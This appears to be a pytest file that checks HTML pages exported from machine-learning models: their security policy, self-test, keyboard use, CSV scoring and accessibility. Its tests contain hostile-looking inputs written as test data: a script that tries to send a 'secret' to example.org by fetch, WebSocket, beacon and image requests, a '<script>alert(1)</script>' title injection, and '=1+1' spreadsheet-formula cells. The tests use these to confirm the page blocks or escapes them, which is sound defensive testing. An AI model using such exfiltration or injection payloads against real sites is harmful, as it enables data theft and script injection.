"""Pages of models: they send nothing, predict what the model does, and can be used with a keyboard alone."""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import math
import re
import shutil
import time
import zlib
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import glassnet as gn
from chromium import CHROMIUM, Page, open_page
from export_tables import table_model
from glassnet.exports.lowering.lowering import lower, model_rows
from glassnet.exports.plan import Answer, Field, Join, Plan, Scaled, Value
from glassnet.exports.referee import Rows, interpret
from glassnet.exports.targets.html_target import page as page_target
from glassnet.exports.targets.target import CannotRun, Options
from glassnet.tabular.reading.form import Form
from test_export_js import error_of, proof_of, zoo


def in_chromium(test: Any) -> Any:
    """Mark a test that needs a browser."""
    missing = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
    return pytest.mark.slow(missing(test))


needs_node = pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")


def page_of(plan: Plan) -> bytes:
    """Return the page of a plan."""
    return page_target.print_plan(plan, proof_of(plan), Options())[".html"]


def parts(text: str, tag: str) -> list[str]:
    """Return the contents of the elements of a kind."""
    return re.findall(rf"<{tag}>(.*?)</{tag}>", text, re.DOTALL)


def digest(text: str) -> str:
    """Return how a policy names a text."""
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


# ---- the text of a page ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["iris", "plain", "hostile"])
def test_policy_allows_the_own_scripts_and_style_only(name: str) -> None:
    """By their hashes; nothing else may be loaded, sent or run."""
    text = page_of(zoo(name)[0]).decode()
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', text)
    assert policy is not None
    rules = dict(rule.strip().split(" ", 1) for rule in policy[1].split(";") if " " in rule.strip())
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    scripts, styles = parts(text, "script"), parts(text, "style")
    assert (len(scripts), len(styles)) == (2, 1)
    assert rules["script-src"].split() == [digest(script) for script in scripts]
    assert rules["style-src"].split() == [digest(style) for style in styles]
    assert set(rules) == {
        "default-src",
        "script-src",
        "style-src",
        "base-uri",
        "form-action",
        "require-trusted-types-for",
    }
    assert text.index("Content-Security-Policy") < text.index("<title>")
    assert not re.search(r"\b(?:src|href|action)=|https?:|//[a-z]|innerHTML|eval\(", "".join([*styles, scripts[1]]))


@needs_node
@pytest.mark.parametrize("name", ["iris", "hostile"])
def test_script_of_a_page_computes_what_the_plan_does(name: str, tmp_path: Path) -> None:
    """The page holds the same script as the file beside it, without comments."""
    plan, rows = zoo(name)
    (tmp_path / "model.html").write_bytes(page_of(plan))
    run = page_target.run_file(tmp_path / "model.html", plan, rows)
    assert (run.failures, error_of(run, plan, rows) < 1e-9) == (0, True)
    assert run.ran_in.startswith("node ")


def test_a_page_without_a_script_cannot_run(tmp_path: Path) -> None:
    """That is said and is no error of Python's."""
    (tmp_path / "model.html").write_text("<html></html>")
    with pytest.raises(CannotRun, match="no script"):
        page_target.run_file(tmp_path / "model.html", *zoo("iris"))


@pytest.mark.parametrize(
    ("name", "bound"), [("iris", 30_000), ("smooth", 31_000), ("plain", 51_000), ("small", 51_000)]
)
def test_pages_are_small(name: str, bound: int) -> None:
    """Beside weights, test rows and categories; packed as servers send it, the program takes less than 19 kB."""
    plan, _ = zoo(name)
    text = page_of(plan).decode()
    for pattern in (r"const testRows = \[.*?\n\];", r"const expected = \[.*?\n\];", r"const columns = \[.*?\n\];"):
        text = re.sub(pattern, "", text, flags=re.DOTALL)
    own = len(text) - 1.4 * 4 * plan.n_weights
    assert own < bound
    program = re.sub(r"decode\(`[^`]*`", "", text)
    assert len(zlib.compress(program.encode(), 9)) < 19_000


def test_equal_plans_give_equal_pages() -> None:
    """Byte for byte; names are escaped, and cut where they are long."""
    plan, _ = zoo("hostile")
    assert page_of(plan) == page_of(plan)
    odd = Plan(**{**vars(plan), "name": "</title><script>alert(1)</script>\x00" + "n" * 500})
    text = page_of(odd).decode()
    title = re.search(r"<title>(.*?)</title>", text)
    assert title is not None
    assert html.unescape(title[1]).startswith("</title><script>alert(1)</script> nnn")
    assert len(html.unescape(title[1])) <= 80
    assert len(parts(text, "script")) == 2


def test_a_target_of_any_name_is_named() -> None:
    """A column of a table may be called target; what a network gives has no name."""
    plan, _ = zoo("plain")
    named = Plan(**{**vars(plan), "answer": replace(plan.answer, target="target")})
    assert '<h2 id="predicted">target</h2>' in page_of(named).decode()
    nameless, _ = zoo("iris")
    assert '<h2 id="predicted">Prediction</h2>' in page_of(nameless).decode()


# ---- in Chromium -----------------------------------------------------------------------------------------------------


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Page]:
    """A page of Chromium with a profile of its own."""
    with open_page(tmp_path / "profile") as page:
        yield page


def show(browser: Page, plan: Plan, folder: Path, text: bytes | None = None) -> None:
    """Open the page of a plan."""
    path = folder / "model.html"
    path.write_bytes(page_of(plan) if text is None else text)
    browser.go(path.as_uri())


def said(browser: Page, name: str) -> str:
    """Return the text of an element."""
    return str(browser.run(f"document.getElementById('{name}').textContent"))


def shares(browser: Page) -> dict[str, str]:
    """Return the names and the values beside the bars."""
    pairs = browser.run(
        "[...document.querySelectorAll('#bars li')].map((li) => [...li.children].slice(0, 2).map((e) => e.textContent))"
    )
    return dict(pairs)


def visits(model_column: str = "bill,length") -> dict[str, list]:
    """Return a table with quotes, separators and line ends in names and cells."""
    rng = np.random.default_rng(0)
    n = 120
    return {
        model_column: rng.standard_normal(n).round(2).tolist(),
        "kind": [['red; or "blue"', "line\nbreak", "plain", "Ä, ö"][i % 4] for i in range(n)],
        "smoker": [bool(i % 3) for i in range(n)],
        "day": [np.datetime64("2024-01-01") + int(i) for i in rng.integers(0, 90, n)],
    }


def table_plan() -> tuple[Plan, Rows]:
    """Return a table model and rows for it."""
    frame = visits()
    label = ["yes" if a > 0 else "no" for a in frame["bill,length"]]
    model = table_model({**frame, "day": np.array(frame["day"], dtype="M8[us]")}, label, seed=0)
    plan = lower(model, "visits")
    return plan, model_rows(model, plan, {**frame, "day": np.array(frame["day"], dtype="M8[us]")})


@pytest.mark.parametrize("name", ["iris", "plain", "hostile"])
@in_chromium
def test_page_sends_nothing(name: str, browser: Page, tmp_path: Path) -> None:
    """From a file nothing but itself is read, and whatever a script tries is refused."""
    show(browser, zoo(name)[0], tmp_path)
    assert said(browser, "proof").startswith("Self-test passed (16 of 16, worst error ")
    assert browser.console == []
    tries = """(async () => {
      const found = [];
      const note = (name) => (event) => found.push(name + " " + event.type);
      for (const kind of ["fetch", "xhr", "socket", "beacon", "image", "inline"]) {
        try {
          if (kind === "fetch") await fetch("https://example.org/?secret").then(() => found.push("sent"), () => found.push("fetch refused"));
          if (kind === "xhr") await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.onerror = note(kind); x.open("GET", "https://example.org/?x"); x.send(); });
          if (kind === "socket") await new Promise((done) => { const s = new WebSocket("wss://example.org/"); s.onerror = (e) => { note(kind)(e); done(); }; s.onopen = () => { found.push("sent"); done(); }; });
          if (kind === "beacon") navigator.sendBeacon("https://example.org/?b", "secret");
          if (kind === "image") await new Promise((done) => { const i = new Image(); i.onerror = (e) => { note(kind)(e); done(); }; i.onload = () => { found.push("sent"); done(); }; i.src = "https://example.org/?i"; });
          if (kind === "inline") { const s = document.createElement("script"); s.append("window.ran = 1"); document.body.append(s); found.push("inline " + window.ran); }
        } catch (error) { found.push(kind + " " + error.name); }
      }
      return found;
    })()"""
    found = browser.run(tries)
    assert "sent" not in found
    assert "fetch refused" in found
    assert "image error" in found
    assert not any(line.startswith("inline 1") for line in found)
    assert {url.split(":")[0] for url in browser.requests if "example.org" not in url} <= {"file", "data", "blob"}
    assert any("Content Security Policy" in line for line in browser.console)


@in_chromium
def test_altered_page_does_not_run(browser: Page, tmp_path: Path) -> None:
    """A single changed letter of a script, and the browser refuses it."""
    plan, _ = zoo("iris")
    text = page_of(plan)
    show(browser, plan, tmp_path, text.replace(b"Self-test passed", b"Self-test Passed", 1))
    assert said(browser, "proof").startswith("The self-test has not run: this page was altered")


@in_chromium
def test_form_is_used_with_the_keyboard_alone(browser: Page, tmp_path: Path) -> None:
    """Every field is reached in order, and the result is what the model predicts."""
    plan, rows = table_plan()
    assert isinstance(rows, dict)
    show(browser, plan, tmp_path)
    assert said(browser, "note") == "Fill in what you know."
    browser.press("Tab")  # the button for an example
    browser.press("Tab")  # the button that clears
    browser.press("Tab")
    browser.type("0.75")
    browser.press("Tab")
    browser.press("ArrowDown")  # the first category
    browser.press("Tab")
    browser.press("ArrowDown")  # true
    browser.press("Tab")
    browser.run(
        "document.activeElement.value = '2024-02-03'; document.activeElement.dispatchEvent(new Event('input', {bubbles: true}))"
    )
    values = browser.run("[...document.querySelectorAll('#fields input, #fields select')].map((e) => e.value)")
    assert values[0] == "0.75"
    row = {
        "bill,length": np.array([0.75]),
        "kind": np.array([values[1]], dtype=object),
        "smoker": np.array([1.0]),
        "day": np.array([float(np.datetime64("2024-02-03").astype(int))]),
    }
    wanted = interpret(plan, {field.name: row[field.name] for field in plan.fields})[0]
    assert said(browser, "answer") == plan.answer.labels[int(wanted.argmax())]
    assert shares(browser) == {
        name: f"{100 * share:.1f} %" for name, share in zip(plan.answer.names, wanted, strict=True)
    }


@in_chromium
def test_form_says_what_is_wrong(browser: Page, tmp_path: Path) -> None:
    """A cell that cannot be read is marked, and one unlike those of training gives a warning."""
    plan, _ = table_plan()
    show(browser, plan, tmp_path)
    change = (
        "document.getElementById('c0').value = '{}'; document.getElementById('form').dispatchEvent(new Event('input'))"
    )
    browser.run(change.format("1;5"))
    assert browser.run("document.getElementById('c0').getAttribute('aria-invalid')") == "true"
    assert said(browser, "c0hint") == 'bill,length is "1;5"; it must be a number.'
    assert said(browser, "note") == "A field cannot be read."
    browser.run(change.format("99"))
    assert said(browser, "warnings").startswith("bill,length: 99 is outside the range of training")
    browser.run("document.getElementById('clear').click()")
    assert said(browser, "answer") == "\N{EN DASH}"
    browser.run("document.getElementById('example').click()")
    assert said(browser, "answer") in plan.answer.labels


def as_csv(frame: dict[str, list], separator: str = ",", *, mark: str = ".") -> str:
    """Return a table as CSV."""
    stream = io.StringIO()
    writer = csv.writer(stream, delimiter=separator, lineterminator="\r\n")
    writer.writerow(frame)
    for row in zip(*frame.values(), strict=True):
        writer.writerow([str(cell).replace(".", mark) if isinstance(cell, float) else cell for cell in row])
    return stream.getvalue()


def downloaded(browser: Page, folder: Path) -> list[dict[str, str]]:
    """Click the link and return the rows of the file."""
    target = folder / "downloads"
    browser.command("Page.setDownloadBehavior", behavior="allow", downloadPath=str(target))
    browser.wait("document.querySelector('#download a') !== null")
    browser.run("document.querySelector('#download a').click()")
    path = target / "predictions.csv"
    until = time.monotonic() + 30.0
    while not path.exists() and time.monotonic() < until:
        time.sleep(0.05)
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


@in_chromium
@pytest.mark.parametrize(("separator", "start"), [(",", ""), (";", "\ufeff"), ("\t", "")])
def test_csv_is_scored_and_downloaded(separator: str, start: str, browser: Page, tmp_path: Path) -> None:
    """With all columns of the file, and predictions equal to the model's to the last digits."""
    plan, rows = table_plan()
    show(browser, plan, tmp_path)
    frame = {"id": list(range(120)), **visits()}
    (tmp_path / "visits.csv").write_text(start + as_csv(frame, separator), encoding="utf-8", newline="")
    browser.choose_file("#file", tmp_path / "visits.csv")
    found = downloaded(browser, tmp_path)
    assert said(browser, "status") == "visits.csv: 120 rows scored."
    wanted = interpret(plan, rows)
    assert [row["id"] for row in found] == [str(i) for i in range(120)]
    assert [row["kind"] for row in found] == frame["kind"]
    assert [row["prediction"] for row in found] == [plan.answer.labels[i] for i in wanted.argmax(axis=1)]
    shown = np.array([[float(row[f"probability_{name}"]) for name in plan.answer.names] for row in found])
    assert np.max(np.abs(shown - wanted)) < 1e-9
    assert {row["warnings"] for row in found} == {""}


@in_chromium
def test_csv_with_faults(browser: Page, tmp_path: Path) -> None:
    """A row that cannot be read has no prediction but a reason; a file without a column is refused in a sentence."""
    plan, _ = table_plan()
    show(browser, plan, tmp_path)
    frame = visits()
    ragged = "1,plain,true\r\n"
    frame["bill,length"][3], frame["bill,length"][5] = "oops", 1e6  # type: ignore[call-overload]
    (tmp_path / "bad.csv").write_text(as_csv(frame) + ragged, encoding="utf-16")
    browser.choose_file("#file", tmp_path / "bad.csv")
    found = downloaded(browser, tmp_path)
    assert (
        said(browser, "status")
        == "bad.csv: 121 rows scored. 1 with warnings. 2 could not be read and have no prediction."
    )
    assert (found[3]["prediction"], found[3]["warnings"]) == ("", 'bill,length is "oops"; it must be a number.')
    assert found[5]["warnings"].startswith("bill,length: 1000000 is outside")
    assert found[120]["warnings"] == "the row has 3 cells, not 4."
    cases = {
        "no.csv": ("a,b\n1,2\n", "it has no column bill,length, kind, smoker, day."),
        "empty.csv": ("", "it is empty."),
        "twice.csv": (
            '"bill,length",kind,smoker,day,kind\n1,plain,true,2024-01-01,plain\n',
            "it has two columns kind.",
        ),
        "open.csv": (
            '"bill,length",kind,smoker,day\n1,"never closed,true,2024-01-01\n',
            "a quotation mark is never closed.",
        ),
    }
    for name, (text, reason) in cases.items():
        (tmp_path / name).write_text(text)
        browser.choose_file("#file", tmp_path / name)
        browser.wait(f"document.getElementById('status').textContent.startsWith('{name}')")
        assert said(browser, "status") == f"{name} cannot be scored: {reason}"


@in_chromium
def test_plain_numbers_are_typed_or_pasted(browser: Page, tmp_path: Path) -> None:
    """A field for each of a few, one box for many; a CSV without names is taken by position."""
    plan, rows = zoo("iris")
    assert isinstance(rows, np.ndarray)
    show(browser, plan, tmp_path)
    assert said(browser, "note") == "Needs 4 numbers, has 0."
    numbers = rows[:7]
    (tmp_path / "rows.csv").write_text("\n".join(",".join(map(repr, row)) for row in numbers.tolist()) + "\n")
    browser.choose_file("#file", tmp_path / "rows.csv")
    found = downloaded(browser, tmp_path)
    shown = np.array([[float(row[f"probability_{name}"]) for name in plan.answer.names] for row in found])
    assert np.max(np.abs(shown - interpret(plan, numbers))) < 1e-9

    net = gn.Network([gn.Dense(4, "tanh"), gn.Dense(1)], loss="squared_error", seed=0, input_shape=(100,))
    many = lower(net, "many")
    show(browser, many, tmp_path)
    row = np.linspace(-1.0, 1.0, 100).round(3)
    pasted = " ".join(map(str, row.tolist()))
    browser.run(
        f"document.getElementById('c0').value = '{pasted}'; document.getElementById('form').dispatchEvent(new Event('input'))"
    )
    assert said(browser, "c0hint") == "100 of 100 numbers"
    assert math.isclose(float(said(browser, "answer")), float(interpret(many, row[None])[0, 0]), rel_tol=1e-5)


def scored(browser: Page, folder: Path, name: str, text: str) -> str:
    """Choose a file and return what the page says about it."""
    (folder / name).write_text(text)
    browser.choose_file("#file", folder / name)
    browser.wait(f"document.getElementById('status').textContent.startsWith('{name}')")
    return said(browser, "status").removeprefix(name)


@in_chromium
def test_no_row_of_numbers_is_lost(browser: Page, tmp_path: Path) -> None:
    """The first row is names only if no cell of it is a number; decimal commas and texts are refused row by row."""
    show(browser, zoo("iris")[0], tmp_path)
    bad = "1 could not be read and has no prediction."
    found = {
        "kept.csv": ("1,2,3,NA\n5,6,7,8\n", f": 2 rows scored. {bad}"),
        "commas.csv": ("1,5;2;3;4\n", f": 1 row scored. {bad}"),
        "named.csv": ("a,b,c,d\n1,2,3,4\n,,,\n", ": 1 row scored."),
        "names.csv": ("a,b,c,d\n", " cannot be scored: it has names of columns and no rows."),
        "wide.csv": ("1,2,3,4,5\n", " cannot be scored: it has 5 columns, not 4."),
        "hex.csv": ("0x10,2,3,4\n", f": 1 row scored. {bad}"),
        "sep.csv": ("sep=;\n1;2;3;4\n", ": 1 row scored."),
        "binary.csv": ("1,2,3,4\0\n", " cannot be scored: it is no text. Save the table as CSV."),
    }
    for name, (text, wanted) in found.items():
        assert scored(browser, tmp_path, name, text) == wanted


@in_chromium
def test_no_sentence_is_a_formula(browser: Page, tmp_path: Path) -> None:
    """Cells of the file stay as they are; what the page adds begins with no sign of a formula."""
    x = Value("x", (1,))
    field = Field("=a", "number", Form("number", example="1"), 0.0, 1.0)
    plan = Plan("odd", (field,), (), (Scaled(x, 0, 0.0, 0.0, 1.0),), x, x, Answer("numbers", ("y",)))
    show(browser, plan, tmp_path)
    scored(browser, tmp_path, "odd.csv", "=a\n=1+1\n7\n")
    found = downloaded(browser, tmp_path)
    assert [row["=a"] for row in found] == ["=1+1", "7"]
    assert all(row["warnings"].startswith("Column =a") for row in found)


@in_chromium
def test_pasted_decimal_commas_are_refused(browser: Page, tmp_path: Path) -> None:
    """They would be taken for two numbers each."""
    net = gn.Network([gn.Dense(4, "tanh"), gn.Dense(1)], loss="squared_error", seed=0, input_shape=(100,))
    show(browser, lower(net, "many"), tmp_path)
    paste = (
        "document.getElementById('c0').value = '{}'; document.getElementById('form').dispatchEvent(new Event('input'))"
    )
    browser.run(paste.format("1,5 " * 50))
    assert said(browser, "answer") == "\N{EN DASH}"
    assert "decimal points" in said(browser, "note")
    browser.run(paste.format(", ".join(["1.5"] * 100)))
    assert said(browser, "answer") != "\N{EN DASH}"


@in_chromium
def test_examples_fill_dates_with_times(browser: Page, tmp_path: Path) -> None:
    """In the form that the field of the browser takes, and times in minutes as training had them."""
    day = Field("day", "date", Form("date", example="2024-05-31 18:30"), 19000.0, 19900.25)
    at = Field("at", "number", Form("number", style="time", example="18:30"), 720.0, 86340.0)
    values = [Value("a", (1,)), Value("b", (1,)), Value("x", (2,))]
    steps = (*(Scaled(values[i], i, 0.0, 0.0, 1e5) for i in range(2)), Join(values[2], tuple(values[:2])))
    plan = Plan("times", (day, at), (), steps, values[2], values[2], Answer("numbers", ("u", "v")))
    show(browser, plan, tmp_path)
    filled: set[str] = set()
    for _ in range(4):
        browser.run("document.getElementById('example').click()")
        found = browser.run("['c0', 'c1'].map((id) => document.getElementById(id).value)")
        assert re.fullmatch(r"(\d{4}-\d\d-\d\dT\d\d:\d\d)?", found[0])
        assert re.fullmatch(r"(\d\d:\d\d)?", found[1])
        filled |= set(found)
    assert len(filled) > 2
    assert not any("conform" in line for line in browser.console)
    assert said(browser, "c0hint").endswith("(year-month-day)")
    assert said(browser, "c1hint") == "00:12 to 23:59, such as 18:30"


@in_chromium
def test_warnings_come_first_on_a_small_screen(browser: Page, tmp_path: Path) -> None:
    """The verdict and its warnings are in view while the form is filled, and the bars stand below it whole."""
    browser.command("Emulation.setDeviceMetricsOverride", width=360, height=640, deviceScaleFactor=1, mobile=False)
    show(browser, table_plan()[0], tmp_path)
    browser.run("document.getElementById('example').click()")
    browser.run(
        "document.getElementById('c0').value = '99'; document.getElementById('form').dispatchEvent(new Event('input'))"
    )
    boxes = browser.run(
        "['answer', 'warnings', 'bars'].map((id) => document.getElementById(id).getBoundingClientRect()).map((b) => [b.top, b.bottom])"
    )
    (answer, below), (warning, end), _ = boxes
    assert 0 <= answer < below <= warning < end <= 640
    assert browser.run(
        "document.getElementById('shares').scrollHeight <= document.getElementById('shares').clientHeight + 2"
    )


@in_chromium
@pytest.mark.parametrize("name", ["labels", "mlp numbers", "quantiles", "linear"])
def test_dropped_file_is_scored(name: str, browser: Page, tmp_path: Path) -> None:
    """Dropped anywhere on the page; each kind of answer has its columns, with every output of the model."""
    plan, rows = zoo(name)
    assert isinstance(rows, np.ndarray)
    show(browser, plan, tmp_path)
    text = "\\n".join(",".join(map(repr, row)) for row in rows[:5].tolist())
    browser.run(
        f"""const carried = new DataTransfer();
        carried.items.add(new File(["{text}"], "dropped.csv"));
        document.body.dispatchEvent(new DragEvent("drop", {{dataTransfer: carried, bubbles: true}}));"""
    )
    found = downloaded(browser, tmp_path)
    y = interpret(plan, rows[:5])
    names = plan.answer.names
    wanted: dict[str, np.ndarray] = {}
    if plan.answer.kind == "labels":
        wanted |= {f"prediction_{n}": c for n, c in zip(names, (y > 0.5).T, strict=True)}
        wanted |= {f"probability_{n}": c for n, c in zip(names, y.T, strict=True)}
    elif plan.answer.kind == "numbers":
        wanted |= {f"prediction_{n}" if len(names) > 1 else "prediction": c for n, c in zip(names, y.T, strict=True)}
    else:
        wanted["prediction"] = y[:, list(plan.answer.middle)].mean(axis=1)
        wanted |= {f"quantile_{level:g}": c for level, c in zip(plan.answer.levels, y.T, strict=True)}
    assert list(found[0])[-1 - len(wanted) :] == [*wanted, "warnings"]
    for column, cells in wanted.items():
        assert [float(row[column]) for row in found] == pytest.approx(
            cells.astype(float).tolist(), rel=1e-12, abs=1e-12
        )


@in_chromium
@pytest.mark.parametrize("name", ["iris", "plain", "hostile", "realmlp quantiles"])
def test_everything_has_a_name_and_fits(name: str, browser: Page, tmp_path: Path) -> None:
    """Every control in the accessibility tree has a name, results are announced, and no size scrolls sideways."""
    show(browser, zoo(name)[0], tmp_path)
    browser.run("document.getElementById('example').click()")
    tree = browser.tree()
    controls = [
        (role, title) for role, title in tree if role in ("textbox", "combobox", "button", "DateTime", "searchbox")
    ]
    assert len(controls) > 4
    assert all(title for _, title in controls), controls
    roles = {role for role, _ in tree}
    assert {"heading", "main", "banner", "contentinfo", "status", "form"} & roles >= {"heading", "main", "status"}
    for width in (360, 768, 1920):
        browser.command(
            "Emulation.setDeviceMetricsOverride", width=width, height=800, deviceScaleFactor=1, mobile=False
        )
        assert browser.run("document.documentElement.scrollWidth <= window.innerWidth"), width
